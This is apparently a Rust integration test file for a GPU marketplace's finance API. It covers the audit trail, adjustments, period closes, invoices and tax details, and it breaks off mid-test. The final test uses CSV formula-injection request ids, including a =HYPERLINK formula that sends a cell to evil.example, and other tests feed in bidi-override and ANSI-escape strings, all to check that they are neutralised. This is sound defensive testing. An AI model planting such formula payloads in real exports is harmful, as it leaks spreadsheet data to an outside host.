//! Finance over the public API (issue 17; docs/settlement.md "Audit trail", docs/api.md §4):
//! the audit trail of money-moving and access-changing actions, with the request id every
//! answer carries. The app runs on port 0 on the embedded journal.

use crate::support;
use crate::support::api::{Backend, TestApp, bid, listed_node, quiet_opts};
use serde_json::{Value, json};

/// `POST` as the admin with our own `X-Request-Id`; answers (status, body, request id header).
async fn post_as_admin(
    app: &TestApp,
    path: &str,
    body: Value,
    idem: &str,
    rid: &str,
) -> (u16, Value, String) {
    let c = app.admin();
    let resp = c
        .http
        .post(format!("{}{path}", c.base))
        .bearer_auth(c.key.as_deref().expect("admin key"))
        .header("Idempotency-Key", idem)
        .header("X-Request-Id", rid)
        .json(&body)
        .send()
        .await
        .expect("request");
    let status = resp.status().as_u16();
    let header = resp.headers()["x-request-id"]
        .to_str()
        .expect("ascii")
        .to_string();
    let v: Value = resp.json().await.expect("json");
    (status, v, header)
}

/// `GET /v1/reports/audit-trail` from the start of time with `key`.
async fn read(app: &TestApp, key: &str) -> support::api::Answer {
    app.client(Some(key))
        .get("/v1/reports/audit-trail?from=0")
        .await
}

#[tokio::test]
async fn the_audit_trail_records_who_moved_money_under_the_answers_request_id() {
    let mut app = TestApp::start(Backend::Embedded, quiet_opts()).await;
    let (buyer, buyer_key) = app.account("team-a", "buyer").await;
    let (supplier, _) = app.account("idc-1", "supplier").await;
    let (_, finance_key) = app.account("books", "finance").await;

    let (s, v, rid) = post_as_admin(
        &app,
        &format!("/v1/admin/accounts/{buyer}/deposits"),
        json!({"amount": "100.00"}),
        "pay-1",
        "req-pay-1",
    )
    .await;
    assert_eq!((s, rid.as_str()), (201, "req-pay-1"), "{v}");
    // A payout beyond the payable (zero) is refused; the error names the same request id.
    let (s, v, rid) = post_as_admin(
        &app,
        &format!("/v1/admin/accounts/{supplier}/payouts"),
        json!({"amount": "5.00"}),
        "wire-1",
        "req-wire-1",
    )
    .await;
    assert_eq!(s, 422, "{v}");
    assert_eq!(
        (v["request_id"].as_str(), rid.as_str()),
        (Some("req-wire-1"), "req-wire-1")
    );
    let refused_code = v["code"].as_str().expect("code").to_string();
    // A request id of another shape is replaced by the server's own.
    let (s, v, rid) = post_as_admin(
        &app,
        &format!("/v1/admin/accounts/{buyer}/deposits"),
        json!({"amount": "1.00"}),
        "pay-2",
        "has spaces",
    )
    .await;
    assert_eq!(s, 201, "{v}");
    assert_eq!(rid.len(), 36, "{rid}");

    let (s, trail, headers) = read(&app, &finance_key).await;
    assert_eq!(s, 200, "{trail}");
    assert!(headers.contains_key("x-request-id"));
    let rows: Vec<(u64, String, Option<String>, String, String)> = trail
        .as_array()
        .expect("entries")
        .iter()
        .map(|e| {
            (
                e["id"].as_u64().expect("id"),
                e["action"].as_str().expect("action").to_string(),
                e["subject"].as_u64().map(|s| s.to_string()),
                e["detail"].as_str().expect("detail").to_string(),
                e["outcome"]["status"].as_str().expect("status").to_string(),
            )
        })
        .collect();
    let created = |id: u64, name: &str, role: &str| {
        (
            id,
            "create_account".to_string(),
            None,
            format!("name={name} role={role} with_key=true"),
            "applied".to_string(),
        )
    };
    assert_eq!(
        rows,
        vec![
            created(1, "team-a", "buyer"),
            created(2, "idc-1", "supplier"),
            created(3, "books", "finance"),
            (
                4,
                "deposit".into(),
                Some(buyer.clone()),
                format!("amount=100.00 key={buyer}:pay-1"),
                "applied".into()
            ),
            (
                5,
                "payout".into(),
                Some(supplier.clone()),
                format!("amount=5.00 key={supplier}:wire-1"),
                "refused".into()
            ),
            (
                6,
                "deposit".into(),
                Some(buyer.clone()),
                format!("amount=1.00 key={buyer}:pay-2"),
                "applied".into()
            ),
        ]
    );
    let entries = trail.as_array().expect("entries");
    assert_eq!(entries[3]["actor"]["request_id"], "req-pay-1");
    assert_eq!(entries[4]["actor"]["request_id"], "req-wire-1");
    assert_eq!(entries[4]["outcome"]["code"], refused_code.as_str());
    // Every entry was asked for by the admin's one key.
    let admin_actor = &entries[0]["actor"];
    assert!(
        entries
            .iter()
            .all(|e| e["actor"]["account"] == admin_actor["account"]
                && e["actor"]["key_id"] == admin_actor["key_id"])
    );

    // Buyers do not read it; finance reads it as CSV too.
    let (s, v, _) = read(&app, &buyer_key).await;
    assert_eq!((s, v["code"].as_str()), (403, Some("forbidden")));
    let c = app.client(Some(&finance_key));
    let csv = c
        .http
        .get(format!(
            "{}/v1/reports/audit-trail?from=0&format=csv",
            c.base
        ))
        .bearer_auth(&finance_key)
        .send()
        .await
        .expect("csv")
        .text()
        .await
        .expect("text");
    let mut lines = csv.lines();
    assert_eq!(
        lines.next(),
        Some("id,at,account,key_id,request_id,action,subject,detail,outcome")
    );
    assert_eq!(lines.count(), 6);
    assert!(csv.contains(&format!("refused: {refused_code}")), "{csv}");

    // The trail is journaled state: a restart replays it exactly.
    app.restart().await;
    let (s, again, _) = read(&app, &finance_key).await;
    assert_eq!((s, &again), (200, &trail));
}

/// `POST` with an `Idempotency-Key` as `key`.
async fn post(
    app: &TestApp,
    key: &str,
    path: &str,
    body: Value,
    idem: Option<&str>,
) -> (u16, Value) {
    let (s, v, _) = app.client(Some(key)).post(path, body, idem).await;
    (s, v)
}

async fn balance(app: &TestApp, buyer_key: &str) -> String {
    let (s, v, _) = app.client(Some(buyer_key)).get("/v1/balance").await;
    assert_eq!(s, 200, "{v}");
    v["balance"].as_str().expect("balance").to_string()
}

#[tokio::test]
async fn finance_posts_adjustments_and_closes_periods_under_the_ledgers_rules() {
    let mut app = TestApp::start(Backend::Embedded, quiet_opts()).await;
    let (buyer, buyer_key) = app.account("team-a", "buyer").await;
    let (supplier, supplier_key) = app.account("idc-1", "supplier").await;
    let (_, fin) = app.account("books", "finance").await;
    let (_, fin2) = app.account("books-2", "finance").await;
    app.deposit(&buyer, "100.00").await;
    let adj = "/v1/finance/adjustments";

    // A goodwill credit, borne by the platform fee account; a retry answers the same posting.
    let goodwill = json!({"kind": "goodwill_credit", "account": buyer, "amount": "10.00",
                          "reason": "outage on 11-03", "reference": "INC-7"});
    let (s, first) = post(&app, &fin, adj, goodwill.clone(), Some("t-1")).await;
    assert_eq!(s, 201, "{first}");
    assert_eq!(first["debit"], "platform_fee");
    assert_eq!(first["credit"], format!("buyer:{buyer}"));
    assert_eq!(first["amount"], "10.00");
    assert_eq!(first["memo"], "goodwill_credit: outage on 11-03 [INC-7]");
    let goodwill_again = goodwill.clone();
    let (s, again) = post(&app, &fin, adj, goodwill, Some("t-1")).await;
    assert_eq!((s, &again), (201, &first));
    assert_eq!(balance(&app, &buyer_key).await, "110.00");
    let other = json!({"kind": "goodwill_credit", "account": buyer, "amount": "11.00",
                       "reason": "outage on 11-03"});
    let (s, v) = post(&app, &fin, adj, other, Some("t-1")).await;
    assert_eq!((s, v["code"].as_str()), (409, Some("idempotency_conflict")));
    // Another finance user with the same key and body: the ledger replays it, nothing moves,
    // and the audit trail says so.
    let (s, v) = post(&app, &fin2, adj, goodwill_again, Some("t-1")).await;
    assert_eq!((s, &v["memo"]), (201, &first["memo"]), "{v}");
    assert_eq!(balance(&app, &buyer_key).await, "110.00");

    // A refund to the bank: at most the balance.
    let refund = |amount: &str| {
        json!({"kind": "refund", "account": buyer, "amount": amount,
                                        "reason": "closing the account"})
    };
    let (s, v) = post(&app, &fin, adj, refund("120.00"), Some("t-2")).await;
    assert_eq!(
        (s, v["code"].as_str()),
        (422, Some("ledger_rejected")),
        "{v}"
    );
    let (s, v) = post(&app, &fin, adj, refund("30.00"), Some("t-3")).await;
    assert_eq!(
        (s, v["debit"].as_str(), v["credit"].as_str()),
        (
            201,
            Some(format!("buyer:{buyer}").as_str()),
            Some("external_cash")
        )
    );
    assert_eq!(balance(&app, &buyer_key).await, "80.00");
    // No SLA credits to cash out; no supplier debt to write off.
    let cash_out = json!({"kind": "sla_cash_out", "account": buyer, "amount": "1.00",
                          "reason": "terms pay SLA credits in cash"});
    let (s, v) = post(&app, &fin, adj, cash_out, Some("t-4")).await;
    assert_eq!(
        (s, v["code"].as_str()),
        (422, Some("sla_cash_out_exceeded")),
        "{v}"
    );
    let write_off = json!({"kind": "write_off", "account": supplier, "amount": "1.00",
                           "reason": "uncollectable"});
    let (s, v) = post(&app, &fin, adj, write_off, Some("t-5")).await;
    assert_eq!(
        (s, v["code"].as_str()),
        (422, Some("write_off_exceeds_debt")),
        "{v}"
    );
    // A correction between two named accounts.
    let correction = json!({"kind": "correction", "debit": format!("buyer:{buyer}"),
                            "credit": "platform_fee", "amount": "5.00",
                            "reason": "fee charged twice in error, reversed"});
    let (s, v) = post(&app, &fin, adj, correction, Some("t-6")).await;
    assert_eq!(s, 201, "{v}");
    assert_eq!(balance(&app, &buyer_key).await, "75.00");

    // Bad input: the code names the field; nothing posts.
    for (i, (body, code)) in [
        (
            json!({"kind": "refund", "account": buyer, "debit": "platform_fee", "amount": "1.00",
                "reason": "x"}),
            "invalid_adjustment",
        ),
        (
            json!({"kind": "refund", "amount": "1.00", "reason": "x"}),
            "invalid_adjustment",
        ),
        (
            json!({"kind": "correction", "debit": "platform_fee", "amount": "1.00",
                "reason": "x"}),
            "invalid_adjustment",
        ),
        (
            json!({"kind": "correction", "debit": "sla_credits", "credit": "platform_fee",
                "amount": "1.00", "reason": "x"}),
            "invalid_account",
        ),
        (
            json!({"kind": "refund", "account": buyer, "amount": "0.00", "reason": "x"}),
            "invalid_amount",
        ),
        (
            json!({"kind": "refund", "account": buyer, "amount": "1.00", "reason": "  "}),
            "invalid_reason",
        ),
        (
            json!({"kind": "refund", "account": buyer, "amount": "1.00", "reason": "x",
                "reference": "r".repeat(201)}),
            "invalid_reference",
        ),
        // Found in review: a right-to-left override reached a credit note's memo.
        (
            json!({"kind": "refund", "account": buyer, "amount": "1.00",
                "reason": "\u{202e} RTL override"}),
            "invalid_reason",
        ),
        (
            json!({"kind": "refund", "account": buyer, "amount": "1.00", "reason": "x",
                "reference": "ticket \u{2066}42\u{2069}"}),
            "invalid_reference",
        ),
    ]
    .into_iter()
    .enumerate()
    {
        // A refused request's answer is kept under its key: one key each.
        let key = format!("t-bad-{i}");
        let (s, v) = post(&app, &fin, adj, body.clone(), Some(&key)).await;
        // The schema cannot say which fields a kind takes, nor that a reason is blank: those
        // are 422; a body of another shape is 400.
        let status = if matches!(code, "invalid_adjustment") || body["reason"] == "  " {
            422
        } else {
            400
        };
        assert_eq!((s, v["code"].as_str()), (status, Some(code)), "{body}: {v}");
    }
    let (s, v) = post(&app, &fin, adj, refund("1.00"), None).await;
    assert_eq!(
        (s, v["code"].as_str()),
        (400, Some("missing_idempotency_key"))
    );
    let to_a_supplier = json!({"kind": "refund", "account": supplier, "amount": "1.00",
                               "reason": "x"});
    let (s, v) = post(&app, &fin, adj, to_a_supplier, Some("t-7")).await;
    assert_eq!((s, v["code"].as_str()), (404, Some("not_found")));
    let (s, v) = post(&app, &buyer_key, adj, refund("1.00"), Some("t-8")).await;
    assert_eq!((s, v["code"].as_str()), (403, Some("forbidden")));
    assert_eq!(balance(&app, &buyer_key).await, "75.00");

    // A lease runs over the close: it is charged through the period's end at the close.
    listed_node(
        &app.client(Some(&supplier_key)),
        "n1",
        "H100-80G",
        1,
        "cn-east-2",
        "20",
    )
    .await;
    let (s, v, _) = app
        .client(Some(&buyer_key))
        .post(
            "/v1/bids",
            bid("b1", "H100-80G", 1, "25", "spot", "ioc"),
            None,
        )
        .await;
    assert_eq!((s, v["filled_gpus"].as_u64()), (201, Some(1)), "{v}");
    tokio::time::sleep(std::time::Duration::from_millis(1_100)).await;

    // Close everything up to now: the buyer's invoice is numbered 1, the supplier's
    // self-billing statement 1.
    let now_ms = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .expect("clock")
        .as_millis() as i64;
    let to = now_ms.to_string();
    let periods = "/v1/finance/periods";
    let close = json!({"from": "2026-01-01", "to": to});
    let (s, closed) = post(&app, &fin, periods, close.clone(), Some("close-1")).await;
    assert_eq!(s, 201, "{closed}");
    assert_eq!(closed["id"], 1);
    assert_eq!(closed["from_ms"], 1_767_196_800_000_i64); // 2026-01-01T00:00+08:00
    assert_eq!(closed["to_ms"], now_ms);
    assert_eq!(closed["invoices"], json!({ buyer.clone(): 1 }));
    assert_eq!(closed["statements"], json!({ supplier.clone(): 1 }));
    let (s, again) = post(&app, &fin, periods, close, Some("close-1")).await;
    assert_eq!((s, &again), (201, &closed));
    // The next close starts where this one ended, and only once it has ended.
    let gap = json!({"from": (now_ms - 500).to_string(), "to": (now_ms - 400).to_string()});
    let (s, v) = post(&app, &fin, periods, gap, Some("close-2")).await;
    assert_eq!(
        (s, v["code"].as_str()),
        (422, Some("close_not_contiguous")),
        "{v}"
    );
    let future = json!({"from": to, "to": (now_ms + 86_400_000).to_string()});
    let (s, v) = post(&app, &fin, periods, future, Some("close-3")).await;
    assert_eq!(
        (s, v["code"].as_str()),
        (422, Some("period_not_ended")),
        "{v}"
    );
    let backwards = json!({"from": to, "to": "2026-01-01"});
    let (s, v) = post(&app, &fin, periods, backwards, Some("close-4")).await;
    assert_eq!(
        (s, v["code"].as_str()),
        (422, Some("invalid_period")),
        "{v}"
    );

    // A late correction references the closed period it corrects.
    let late = |reference: &str| {
        json!({"kind": "goodwill_credit", "account": buyer,
        "amount": "2.00", "reason": "late credit for a closed month", "reference": reference})
    };
    let (s, v) = post(&app, &fin, adj, late("period:1"), Some("t-9")).await;
    assert_eq!(s, 201, "{v}");
    let (s, v) = post(&app, &fin, adj, late("period:9"), Some("t-10")).await;
    assert_eq!(
        (s, v["code"].as_str()),
        (422, Some("invalid_adjustment")),
        "{v}"
    );

    // The period's documents: the buyer's invoice and the supplier's self-billing statement,
    // numbered at the close; the buyer reads its own, not the supplier's.
    let (s, invoice, _) = app
        .client(Some(&buyer_key))
        .get(&format!("/v1/finance/periods/1/invoices/{buyer}"))
        .await;
    assert_eq!(s, 200, "{invoice}");
    assert_eq!(invoice["number"], 1, "{invoice}");
    // Issue 25: the filing fields reach the API: classification, unit, the gross in words.
    for line in invoice["lines"].as_array().expect("lines") {
        assert_eq!(
            line["tax_classification"], "*信息技术服务*GPU算力服务",
            "{invoice}"
        );
        assert_eq!(line["unit"], "卡时", "{invoice}");
    }
    let words = invoice["totals"]["gross_in_words"].as_str().expect("words");
    assert!(
        words.ends_with('整') || words.ends_with('分') || words.ends_with('角'),
        "{words}"
    );
    let (s, statement, _) = app
        .client(Some(&fin))
        .get(&format!(
            "/v1/finance/periods/1/invoices/{supplier}?format=json"
        ))
        .await;
    assert_eq!((s, &statement["number"]), (200, &json!(1)), "{statement}");
    for (key, path) in [
        (
            &buyer_key,
            format!("/v1/finance/periods/1/invoices/{supplier}"),
        ),
        (&fin, format!("/v1/finance/periods/2/invoices/{buyer}")),
        (&fin, "/v1/finance/periods/1/invoices/99".to_string()),
    ] {
        let (s, v, _) = app.client(Some(key)).get(&path).await;
        assert_eq!((s, v["code"].as_str()), (404, Some("not_found")), "{path}");
    }
    let pdf = app
        .client(Some(&fin))
        .http
        .get(format!(
            "{}/v1/finance/periods/1/invoices/{buyer}?format=pdf",
            app.client(None).base
        ))
        .bearer_auth(&fin)
        .send()
        .await
        .expect("pdf");
    assert_eq!(pdf.status(), 200);
    assert_eq!(pdf.headers()["content-type"], "application/pdf");
    let bytes = pdf.bytes().await.expect("bytes");
    assert!(bytes.starts_with(b"%PDF-"), "not a PDF");
    // Regenerated byte for byte.
    let (_, again, _) = app
        .client(Some(&buyer_key))
        .get(&format!("/v1/finance/periods/1/invoices/{buyer}"))
        .await;
    assert_eq!(again, invoice);

    let (s, list, _) = app.client(Some(&fin)).get(periods).await;
    assert_eq!((s, &list["periods"]), (200, &json!([closed.clone()])));
    let (s, _, _) = app.client(Some(&buyer_key)).get(periods).await;
    assert_eq!(s, 403);

    // The audit trail names each action and its outcome.
    let (_, trail, _) = read(&app, &fin).await;
    let actions: Vec<(String, String)> = trail
        .as_array()
        .expect("entries")
        .iter()
        .filter(|e| e["action"] != "create_account" && e["action"] != "deposit")
        .map(|e| {
            let outcome = &e["outcome"];
            (
                e["action"].as_str().expect("action").to_string(),
                outcome["code"]
                    .as_str()
                    .or(outcome["status"].as_str())
                    .expect("outcome")
                    .to_string(),
            )
        })
        .collect();
    let expected: Vec<(String, String)> = [
        ("adjustment", "applied"),
        ("adjustment", "replayed"),
        ("adjustment", "ledger_rejected"),
        ("adjustment", "applied"),
        ("adjustment", "sla_cash_out_exceeded"),
        ("adjustment", "write_off_exceeds_debt"),
        ("adjustment", "applied"),
        ("close_period", "applied"),
        ("close_period", "close_not_contiguous"),
        ("close_period", "period_not_ended"),
        ("adjustment", "applied"),
        ("adjustment", "invalid_adjustment"),
    ]
    .iter()
    .map(|(a, o)| (a.to_string(), o.to_string()))
    .collect();
    assert_eq!(actions, expected);

    let before = balance(&app, &buyer_key).await;
    app.restart().await;
    let (s, after, _) = app.client(Some(&fin)).get(periods).await;
    assert_eq!((s, &after), (200, &list));
    assert_eq!(balance(&app, &buyer_key).await, before);
}

/// ms since epoch now.
fn now_ms() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .expect("clock")
        .as_millis() as i64
}

/// `GET` of an invoice's raw bytes as `key`: (status, body).
async fn invoice_bytes(app: &TestApp, key: &str, path: &str) -> (u16, Vec<u8>) {
    let c = app.client(Some(key));
    let resp = c
        .http
        .get(format!("{}{path}", c.base))
        .bearer_auth(key)
        .send()
        .await
        .expect("invoice");
    let status = resp.status().as_u16();
    (status, resp.bytes().await.expect("bytes").to_vec())
}

/// Inputs a break-it pass found answered wrongly, each with its fixed answer.
#[tokio::test]
async fn edge_inputs_found_by_a_break_it_pass_answer_their_codes() {
    let app = TestApp::start(Backend::Embedded, quiet_opts()).await;
    let (buyer, buyer_key) = app.account("team-a", "buyer").await;
    let (_, fin) = app.account("books", "finance").await;
    app.deposit(&buyer, "100.00").await;
    let periods = "/v1/finance/periods";

    // A period starting before the Unix epoch is the caller's mistake, not the ledger's: 422
    // `invalid_period` naming `from`. 1970-01-01 in Asia/Shanghai (the default zone) is
    // 1969-12-31T16:00Z, before the epoch too.
    for (i, from) in ["1969-12-31", "1970-01-01", "1969-07-20T20:17:40"]
        .into_iter()
        .enumerate()
    {
        let body = json!({"from": from, "to": "2026-01-01"});
        let (s, v) = post(&app, &fin, periods, body, Some(&format!("epoch-{i}"))).await;
        assert_eq!(
            (s, v["code"].as_str(), v["field"].as_str()),
            (422, Some("invalid_period"), Some("from")),
            "{from}: {v}"
        );
        let message = v["message"].as_str().expect("message");
        assert!(message.contains("before 1970-01-01T00:00:00Z"), "{message}");
    }
    // In UTC, 1970-01-01 is ms 0: a period may start there.
    let utc = json!({"from": "1970-01-01", "to": "1970-01-02", "tz": "UTC"});
    let (s, v) = post(&app, &fin, periods, utc, Some("epoch-utc")).await;
    assert_eq!(
        (s, &v["from_ms"], &v["to_ms"]),
        (201, &json!(0), &json!(86_400_000)),
        "{v}"
    );

    // The role message's article.
    let adj = "/v1/finance/adjustments";
    let credit = json!({"kind": "goodwill_credit", "account": buyer, "amount": "1.00",
                        "reason": "x"});
    let (s, v) = post(&app, &buyer_key, adj, credit, Some("k-1")).await;
    assert_eq!(
        (s, v["message"].as_str()),
        (
            403,
            Some("a buyer key may not do this (needs finance or admin)")
        )
    );
    let (s, v, _) = app.admin().get("/v1/balance").await;
    assert_eq!(
        (s, v["message"].as_str()),
        (403, Some("an admin key may not do this (needs buyer)"))
    );

    // Control characters in a reason or reference: 400 naming the field (tabs and newlines
    // too: free text is one line).
    for (i, (field, text, shown)) in [
        ("reason", "goodwill\u{7}", "U+0007"),
        ("reason", "\u{1b}[31mred\u{1b}[0m", "U+001B"),
        ("reason", "two\nlines", "U+000A"),
        ("reason", "a\ttab", "U+0009"),
        ("reason", "c1 \u{85} next line", "U+0085"),
        ("reference", "INC-\u{1b}7", "U+001B"),
    ]
    .into_iter()
    .enumerate()
    {
        let mut body = json!({"kind": "goodwill_credit", "account": buyer, "amount": "1.00",
                              "reason": "outage"});
        body[field] = json!(text);
        let (s, v) = post(&app, &fin, adj, body, Some(&format!("ctl-{i}"))).await;
        let code = format!("invalid_{field}");
        assert_eq!(
            (s, v["code"].as_str(), v["field"].as_str()),
            (400, Some(code.as_str()), Some(field)),
            "{text:?}: {v}"
        );
        let message = v["message"].as_str().expect("message");
        assert!(
            message.starts_with(field) && message.contains(shown),
            "{message}"
        );
    }
    assert_eq!(balance(&app, &buyer_key).await, "100.00");

    // `?format=` (empty) is the default, JSON, byte for byte. (After a few ms: the period
    // must hold the last deposit's millisecond.)
    tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    let close = json!({"from": "1970-01-02", "to": now_ms().to_string(), "tz": "UTC"});
    let (s, closed) = post(&app, &fin, periods, close, Some("close-all")).await;
    assert_eq!(
        (s, &closed["invoices"]),
        (201, &json!({ buyer.clone(): 1 })),
        "{closed}"
    );
    let path = format!("/v1/finance/periods/2/invoices/{buyer}");
    let (s, plain) = invoice_bytes(&app, &fin, &path).await;
    assert_eq!(s, 200);
    let (s, empty) = invoice_bytes(&app, &fin, &format!("{path}?format=")).await;
    assert_eq!((s, &empty), (200, &plain));
    let (s, v, _) = app
        .client(Some(&fin))
        .get(&format!("{path}?format=JSON"))
        .await;
    assert_eq!((s, v["code"].as_str()), (400, Some("invalid_format")));
}

const TAXPAYER_ID: &str = "91350100M000100Y43";

/// A buyer's tax details reach the invoices of periods closed after they were set; a closed
/// period's documents never change (docs/api.md §2.5).
#[tokio::test]
async fn tax_details_print_on_documents_of_later_closes_and_closed_ones_never_change() {
    let mut app = TestApp::start(Backend::Embedded, quiet_opts()).await;
    let (buyer, buyer_key) = app.account("team-a", "buyer").await;
    let (_, fin) = app.account("books", "finance").await;
    let (fin_id, _) = app.account("books-2", "finance").await;
    app.deposit(&buyer, "100.00").await;
    let periods = "/v1/finance/periods";
    let tax = format!("/v1/finance/accounts/{buyer}/tax-details");
    let invoice = |period: u32, format: &str| {
        format!("/v1/finance/periods/{period}/invoices/{buyer}?format={format}")
    };

    // Period 1 closes before any details exist: its invoice names the account only. A few ms
    // first: a period ending in the deposit's own millisecond leaves it out (CI, release: no
    // invoice for period 1).
    tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    let to1 = now_ms();
    let (s, v) = post(
        &app,
        &fin,
        periods,
        json!({"from": "2026-01-01", "to": to1.to_string()}),
        Some("close-1"),
    )
    .await;
    assert_eq!(s, 201, "{v}");
    let (s1, json1) = invoice_bytes(&app, &fin, &invoice(1, "json")).await;
    assert_eq!(s1, 200, "{}", String::from_utf8_lossy(&json1));
    let (_, csv1) = invoice_bytes(&app, &fin, &invoice(1, "csv")).await;
    let doc1: Value = serde_json::from_slice(&json1).expect("json");
    assert_eq!(
        doc1["purchaser"],
        json!({"name": "team-a", "taxpayer_id": "", "address": "", "phone": "", "bank": "",
               "bank_account": ""})
    );

    // Set them; the answer echoes them with the journal position.
    let details = json!({"legal_name": "上海算力科技有限公司", "taxpayer_id": TAXPAYER_ID,
        "address": "上海市浦东新区世纪大道 100 号", "phone": "021-61234567",
        "bank_name": "招商银行上海分行", "bank_account": "6225880212345678"});
    let (s, v, _) = app.client(Some(&fin)).put(&tax, details.clone()).await;
    assert_eq!(s, 200, "{v}");
    assert_eq!((&v["account_id"], &v["details"]), (&json!(buyer), &details));
    assert!(v["seq"].as_u64().is_some_and(|s| s > 0), "{v}");

    // Bad input, each with its code and field; nothing changes.
    let with = |field: &str, value: Value| {
        let mut d = details.clone();
        d[field] = value;
        d
    };
    for (body, status, code, field) in [
        (
            with("taxpayer_id", json!("91350100M000100Y4")),
            400,
            "invalid_taxpayer_id",
            Some("taxpayer_id"),
        ),
        (
            with("taxpayer_id", json!("91350100m000100Y43")),
            400,
            "invalid_taxpayer_id",
            Some("taxpayer_id"),
        ),
        (
            with("taxpayer_id", json!("91350100M000100Y44")),
            422,
            "invalid_taxpayer_id",
            Some("taxpayer_id"),
        ),
        (
            with("legal_name", json!("")),
            400,
            "invalid_tax_details",
            Some("legal_name"),
        ),
        (
            with("legal_name", json!("   ")),
            422,
            "invalid_tax_details",
            Some("legal_name"),
        ),
        (
            with("legal_name", json!("x".repeat(101))),
            400,
            "invalid_tax_details",
            Some("legal_name"),
        ),
        (
            with("legal_name", json!("two\nlines")),
            400,
            "invalid_tax_details",
            Some("legal_name"),
        ),
        (
            with("address", json!("a\u{7}")),
            400,
            "invalid_tax_details",
            Some("address"),
        ),
        (
            with("phone", json!("call me")),
            400,
            "invalid_tax_details",
            Some("phone"),
        ),
        (
            with("bank_account", json!("12345")),
            400,
            "invalid_tax_details",
            Some("bank_account"),
        ),
        (
            with("bank_account", json!("6225 8802")),
            400,
            "invalid_tax_details",
            Some("bank_account"),
        ),
        // An unknown field is named (issue 25).
        (with("extra", json!("x")), 400, "bad_json", Some("extra")),
    ] {
        let (s, v, _) = app.client(Some(&fin)).put(&tax, body.clone()).await;
        assert_eq!(
            (s, v["code"].as_str(), v["field"].as_str()),
            (status, Some(code), field),
            "{body}: {v}"
        );
    }
    let (s, v, _) = app
        .client(Some(&fin))
        .put("/v1/finance/accounts/99/tax-details", details.clone())
        .await;
    assert_eq!((s, v["code"].as_str()), (404, Some("not_found")), "{v}");
    let (s, v, _) = app
        .client(Some(&fin))
        .put(
            &format!("/v1/finance/accounts/{fin_id}/tax-details"),
            details.clone(),
        )
        .await;
    assert_eq!((s, v["code"].as_str()), (422, Some("wrong_role")), "{v}");
    let (s, v, _) = app
        .client(Some(&buyer_key))
        .put(&tax, details.clone())
        .await;
    assert_eq!((s, v["code"].as_str()), (403, Some("forbidden")), "{v}");

    // Period 1's documents are the same bytes as before.
    assert_eq!(
        invoice_bytes(&app, &fin, &invoice(1, "json")).await,
        (200, json1.clone())
    );
    assert_eq!(
        invoice_bytes(&app, &fin, &invoice(1, "csv")).await,
        (200, csv1.clone())
    );

    // Period 2 closes after: its invoice prints the details.
    app.deposit(&buyer, "5.00").await;
    tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    let to2 = now_ms();
    let (s, v) = post(
        &app,
        &fin,
        periods,
        json!({"from": to1.to_string(), "to": to2.to_string()}),
        Some("close-2"),
    )
    .await;
    assert_eq!(
        (s, &v["invoices"]),
        (201, &json!({ buyer.clone(): 2 })),
        "{v}"
    );
    let (s, json2) = invoice_bytes(&app, &buyer_key, &invoice(2, "json")).await;
    assert_eq!(s, 200);
    let doc2: Value = serde_json::from_slice(&json2).expect("json");
    assert_eq!(
        doc2["purchaser"],
        json!({"name": "上海算力科技有限公司", "taxpayer_id": TAXPAYER_ID,
               "address": "上海市浦东新区世纪大道 100 号", "phone": "021-61234567",
               "bank": "招商银行上海分行", "bank_account": "6225880212345678"})
    );
    let (_, csv2) = invoice_bytes(&app, &fin, &invoice(2, "csv")).await;
    assert!(String::from_utf8_lossy(&csv2).contains(TAXPAYER_ID));

    // New details change neither closed period; a replayed close freezes nothing again.
    let (s, _, _) = app
        .client(Some(&fin))
        .put(&tax, with("legal_name", json!("renamed Ltd")))
        .await;
    assert_eq!(s, 200);
    let (s, v) = post(
        &app,
        &fin,
        periods,
        json!({"from": to1.to_string(), "to": to2.to_string()}),
        Some("close-2"),
    )
    .await;
    assert_eq!((s, &v["id"]), (201, &json!(2)), "{v}");
    assert_eq!(
        invoice_bytes(&app, &fin, &invoice(2, "json")).await,
        (200, json2.clone())
    );
    assert_eq!(
        invoice_bytes(&app, &fin, &invoice(1, "json")).await,
        (200, json1.clone())
    );

    // The changes are audited, refused ones too.
    let (_, trail, _) = read(&app, &fin).await;
    let changes: Vec<(Value, String, String)> = trail
        .as_array()
        .expect("entries")
        .iter()
        .filter(|e| e["action"] == "set_tax_details")
        .map(|e| {
            let o = &e["outcome"];
            (
                e["subject"].clone(),
                e["detail"].as_str().expect("detail").to_string(),
                o["code"]
                    .as_str()
                    .or(o["status"].as_str())
                    .expect("outcome")
                    .to_string(),
            )
        })
        .collect();
    let subject = |id: &str| json!(id.parse::<u64>().expect("id"));
    assert_eq!(
        changes,
        vec![
            (
                subject(&buyer),
                format!("legal_name=上海算力科技有限公司 taxpayer_id={TAXPAYER_ID}"),
                "applied".into()
            ),
            (
                json!(99),
                format!("legal_name=上海算力科技有限公司 taxpayer_id={TAXPAYER_ID}"),
                "unknown_account".into()
            ),
            (
                subject(&fin_id),
                format!("legal_name=上海算力科技有限公司 taxpayer_id={TAXPAYER_ID}"),
                "wrong_role".into()
            ),
            (
                subject(&buyer),
                format!("legal_name=renamed Ltd taxpayer_id={TAXPAYER_ID}"),
                "applied".into()
            ),
        ]
    );

    // Journaled state: a restart replays the same documents.
    app.restart().await;
    assert_eq!(
        invoice_bytes(&app, &fin, &invoice(1, "json")).await,
        (200, json1)
    );
    assert_eq!(
        invoice_bytes(&app, &fin, &invoice(2, "json")).await,
        (200, json2)
    );
    assert_eq!(
        invoice_bytes(&app, &fin, &invoice(1, "csv")).await,
        (200, csv1)
    );
}

/// Issue 25: a client-chosen `X-Request-Id` landed unchanged in the audit-trail CSV, so
/// `=HYPERLINK(…)` became a live cell in the spreadsheet finance opens. Every prefix a
/// spreadsheet reads as a formula comes out of the CSV with a leading `'`; JSON keeps the id
/// as the client sent it (it is the id of the answer and of the entry).
#[tokio::test]
async fn request_ids_that_a_spreadsheet_would_run_are_text_in_the_audit_csv() {
    let app = TestApp::start(Backend::Embedded, quiet_opts()).await;
    let (buyer, _) = app.account("team-a", "buyer").await;
    let (_, finance_key) = app.account("books", "finance").await;
    let ids = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"statement\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
    ];
    for (k, rid) in ids.iter().enumerate() {
        let (s, v, echoed) = post_as_admin(
            &app,
